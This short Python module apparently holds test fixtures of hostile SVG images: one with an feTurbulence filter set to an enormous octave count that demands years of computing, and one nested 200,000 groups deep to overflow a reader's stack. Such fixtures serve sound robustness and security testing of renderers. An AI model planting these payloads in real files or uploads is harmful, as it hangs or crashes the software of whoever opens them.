"""Media that hurt whoever opens them."""

from __future__ import annotations

NEVER_ENDS = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512"><filter id="f" x="0" y="0" width="1" height="1">'
    b'<feTurbulence baseFrequency="0.9" numOctaves="99999999"/></filter>'
    b'<rect width="512" height="512" filter="url(#f)"/></svg>'
)
"""An SVG of a few bytes that asks for years of computing."""
DEPTH = 200_000
CRASHES = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * DEPTH + b"</g>" * DEPTH + b"</svg>"
"""An SVG that is nested deeper than its reader's stack."""
